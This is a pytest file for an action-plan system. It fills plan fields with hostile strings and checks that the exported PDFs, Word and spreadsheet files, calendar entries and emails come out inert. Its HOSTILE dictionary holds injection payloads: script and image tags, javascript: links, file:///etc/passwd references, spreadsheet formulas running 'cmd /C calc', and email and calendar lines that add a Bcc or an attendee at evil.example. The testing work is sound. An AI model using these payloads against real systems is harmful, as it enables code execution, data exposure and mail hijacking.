"""Hostile text in every field of a plan: each file comes out whole and inert, and calls nobody (trust X11 to X17)."""

from __future__ import annotations

import email
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from email import policy
from typing import Any
from xml.etree.ElementTree import fromstring

import docx
import pikepdf
import pytest
import weasyprint
from django.conf import settings
from django.core import mail as outbox
from django.urls import reverse
from icalendar import Calendar

from actionplans import documents, everything
from actionplans.models import Action, ActionPlan, Delivery, Endorsement, Objective
from partnerships.models import Organisation
from partnerships.papers import say_failed
from pipd.kit import calendars, clock, mail, tables, text
from pipd.kit.models import Document, OutgoingMail
from tests import build, sheet_files
from tests.actionplans import papers
from tests.kit.conftest import faces  # noqa: F401 - the documents' typefaces
from tests.listening import listening

CHECK = settings.BASE_URL + reverse("pages:check-print")
PORT = "PORT"  # stands for the listener's
HOSTILE = {
    "right to left": "نحن نعمل معا من أجل المجتمع אנחנו עובדים יחד",
    "bidi overrides": "Pay \u202egnp.exe\u202c and \u2066inner\u2069 to \u200fus",
    "emoji": "Meet 👩‍👩‍👧 at the hall 👍🏽 ☎️ 🏳️‍🌈",
    "one long word": "Donaudampfschifffahrt" * 477,
    "html": f'<img src="http://127.0.0.1:{PORT}/a.png" onerror=alert(1)> <b>b</b> {{{{ document }}}} {{% now %}} &amp;',
    "script": f'</title></style><script src="http://127.0.0.1:{PORT}/x.js"></script><iframe src="file:///etc/passwd">',
    "css": f'</style><style>@import url(http://127.0.0.1:{PORT}/a.css);*{{background:url(http://127.0.0.1:{PORT}/b)}}</style>',
    "links": f"See http://127.0.0.1:{PORT}/here file:///etc/passwd javascript:alert(1)",
    "formula": f'=HYPERLINK("http://127.0.0.1:{PORT}/","x")',
    "formula, full width": "＝cmd|' /C calc'!A1",
    "formula, other starts": "@SUM(1+1)*cmd|' /C calc'!A0",
    "headers": "Plan\r\nBcc: x@evil.example\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
    "calendar": "Hall\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTENDEE:mailto:x@evil.example",
    "escapes of xml": "_x0041_ ]]> <!-- --> <![CDATA[ &#0; &lt;",
    "file names": "../../etc/passwd\u202efdp.exe; filename=x.exe",
}  # fmt: skip


@pytest.fixture
def listener() -> Iterator[tuple[int, list[int]]]:
    with listening() as heard:
        yield heard


@pytest.fixture(params=HOSTILE)
def words(request: pytest.FixtureRequest, listener: tuple[int, list[int]]) -> Iterator[str]:
    """The hostile words with the listener's port; afterwards nobody has called."""
    port, calls = listener
    yield HOSTILE[request.param].replace(PORT, str(port))
    assert calls == []


@pytest.fixture
def plan(area: build.Group, started: ActionPlan, words: str) -> ActionPlan:
    """A plan in delivery with the words in every field, as stored: not even the forms have cleaned them."""
    Objective.objects.update(text=words, concern_la=words, concern_tso=words, no_evidence_reason=words)
    Action.objects.update(text=words)
    own = dict.fromkeys(("lead_la", "lead_tso"), words[:120])
    own |= dict.fromkeys(("resources", "measure", "rag_note"), words[:300])
    Delivery.objects.update(**own, rag="amber", due_on=clock.today() - timedelta(days=1))
    papers.review(started, area, lessons=words, changes=words)
    organisation = area.la_lead.organisation
    Organisation.objects.filter(pk=organisation.pk).update(name=words[:120])
    Endorsement.objects.create(
        plan=started, sector="la", organisation=organisation, body=words[:120], endorsed_on=clock.today(),
        recorded_at=clock.now(), recorded_by=area.la_lead,
    )  # fmt: skip
    type(area.area).objects.filter(pk=area.area.pk).update(name=words[:80])
    started.refresh_from_db()
    return ActionPlan.objects.select_related("area__programme").get(pk=started.pk)


def rendered(document: Document) -> bytes:
    """The file; its name is of codes alone (trust X17)."""
    content = papers.made(document)
    assert re.fullmatch(r"A01-[A-Z]+(-[A-Z0-9]+)*\.(pdf|docx|xlsx|zip)", document.filename)
    return content


def letters(told: str) -> str:
    """What of `told` is left when breaks and marks of direction are gone: the same before and after printing."""
    return "".join(re.findall(r"[A-Za-z0-9]", text.clean(told)))


def inert(content: bytes) -> list[str]:
    """Whatever in a PDF could act: scripts, files, addresses other than the page on which prints are checked."""
    with pikepdf.open(io.BytesIO(content)) as opened:
        found = [name for name in ("/AA", "/OpenAction", "/AF") if name in opened.Root]
        found += [
            str(name) for name in ("/JavaScript", "/EmbeddedFiles") if name in opened.Root.get("/Names", {})
        ]
        for page in opened.pages:
            for note in page.get("/Annots", []):
                action = note.get("/A", {})
                if action.get("/S", "/GoTo") not in ("/GoTo", "/URI"):
                    found.append(str(action.S))
                if str(action.get("/URI", CHECK)) != CHECK:
                    found.append(str(action.URI))
        return found


def test_pdfs_come_out_whole_and_inert(area: build.Group, plan: ActionPlan, words: str) -> None:
    [review] = documents.reviews(plan)
    for kind in ("plan", "summary", "review"):
        asked = documents.ask(plan, kind=kind, review=review.pk, by=area.la_officer)
        content = rendered(asked)
        assert inert(content) == []
        assert letters(words)[:60] in letters(papers.words_of(content))
        with pikepdf.open(io.BytesIO(content)) as opened:
            assert opened.check_pdf_syntax() == []


@pytest.mark.heavy
def test_everything_comes_out_whole_and_inert(area: build.Group, plan: ActionPlan, words: str) -> None:
    content = rendered(everything.ask(plan.area, kind=everything.ZIP, by=area.la_officer))
    files = papers.zipped(content)
    assert all(re.fullmatch(r"[A-Za-z0-9.-]+", name) for name in files)
    assert inert(next(iter(files.values()))) == []
    told = json.loads(files["area-record.json"])
    assert told["plan"]["objectives"][0]["words"] == words
    rows = files[next(name for name in files if name.endswith(".csv"))].decode().splitlines()
    assert not [row for row in rows if row.startswith(("=", "@", "＝", '"=', '"@', '"＝'))]


def test_word_file_comes_out_whole_and_inert(area: build.Group, plan: ActionPlan, words: str) -> None:
    content = rendered(documents.ask(plan, kind="plan-word", by=area.la_officer))
    assert text.clean(words).replace("\n", " ")[:200] in papers.word_words(content).replace("\n", " ")
    assert outside(content) == []


def outside(content: bytes) -> list[str]:
    """Parts of an office file that reach out of it: targets elsewhere, macros, fields that fetch."""
    with zipfile.ZipFile(io.BytesIO(content)) as found:
        names = found.namelist()
        relations = [found.read(name).decode() for name in names if name.endswith(".rels")]
        body = "".join(found.read(name).decode() for name in names if name.endswith("document.xml"))
        for name in names:
            if name.endswith((".xml", ".rels")):
                fromstring(found.read(name))  # noqa: S314 - well formed, or it raises
    told = [name for name in names if "vba" in name.lower() or "embeddings" in name]
    told += [part for part in relations if 'TargetMode="External"' in part]
    return told + re.findall(r"<w:instrText|<w:hyperlink", body)


def test_spreadsheet_comes_out_whole_and_holds_no_formula(
    area: build.Group, plan: ActionPlan, words: str
) -> None:
    content = rendered(documents.ask(plan, kind="plan-sheets", by=area.la_officer))
    assert "f" not in sheet_files.kinds(content)
    assert outside(content) == []
    cells = [cell for n in (1, 2) for row in sheet_files.cells(content, n) for cell in row]
    assert text.clean(words) in [re.sub("_x005F_", "_", str(cell)) for cell in cells]
    assert {type(cell) for cell in cells} <= {str, float, type(clock.today())}


def test_calendar_file_comes_out_whole(words: str) -> None:
    now = clock.now()
    entry = calendars.Entry("a@pipd", 0, now, now + timedelta(hours=1), words, place=words, details=words)
    parts = [part.name for part in Calendar.from_ical(calendars.written([entry], name=words)).walk()]
    assert parts == ["VCALENDAR", "VEVENT"]
    assert "ATTENDEE" not in {
        line.split(":")[0].split(";")[0] for line in calendars.written([entry]).splitlines()
    }


def test_mail_comes_out_whole(area: build.Group, plan: ActionPlan, words: str) -> None:
    """About an area with such a name: no header is added, no markup is live."""
    OutgoingMail.objects.all().delete()
    say_failed(documents.ask(plan, by=area.la_officer))
    [row] = OutgoingMail.objects.all()
    mail.send(row.pk)
    [message] = outbox.outbox
    told = email.message_from_bytes(message.message().as_bytes(), policy=policy.default)
    assert (told["To"], told["Bcc"]) == (area.la_officer.user.email, None)
    assert told["Subject"] == "Your document could not be made"
    html = told.get_body(("html",)).get_content()
    assert not re.search(r"<(script|iframe|img src=.http)", html)
    links = re.findall(r'(?:src|href)="([^"]*)"', html)
    assert [link for link in links if not link.startswith(settings.BASE_URL)] == []
    assert letters(words[:40]) in letters(told.get_body(("plain",)).get_content())


def test_header_with_a_second_line_is_refused_once() -> None:
    assert mail.fault(to="a@example.org", subject=HOSTILE["headers"]) == "bad-header"
    assert mail.fault(to="a@example.org\r\nBcc: x@evil.example", subject="Plan") == "bad-address"


# Controls: the tests see what they look for


def test_control_a_bare_renderer_of_unescaped_words_calls(listener: tuple[int, list[int]]) -> None:
    port, calls = listener
    page = f"<html><body><p>{HOSTILE['html'].replace(PORT, str(port))}</p></body></html>"
    content = weasyprint.HTML(string=page).write_pdf()
    assert len(calls) >= 1
    assert content.startswith(b"%PDF")


def test_control_a_live_link_is_seen(listener: tuple[int, list[int]]) -> None:
    page = '<html lang="en"><title>x</title><body><p><a href="javascript:alert(1)">x</a></p></body></html>'
    assert inert(weasyprint.HTML(string=page).write_pdf()) == ["javascript:alert(1)"]


def test_control_a_formula_and_an_outside_target_are_seen() -> None:
    made = docx.Document()
    made.part.relate_to("http://evil.example/", "x", is_external=True)
    kept = io.BytesIO()
    made.save(kept)
    assert outside(kept.getvalue())
    sheet = f'<worksheet xmlns="{sheet_files.MAIN[1:-1]}"><c><f>1+1</f></c></worksheet>'
    told = io.BytesIO()
    with zipfile.ZipFile(told, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    assert "f" in sheet_files.kinds(told.getvalue())


def test_control_some_of_the_words_would_be_formulas() -> None:
    assert [name for name, words in HOSTILE.items() if tables.may_be_formula(words)] == [
        "formula",
        "formula, full width",
        "formula, other starts",
    ]


def test_control_unescaped_words_would_add_a_header() -> None:
    told: Any = email.message_from_string(f"Subject: {HOSTILE['headers']}\n\nx", policy=policy.default)
    assert told["Bcc"] == "x@evil.example"
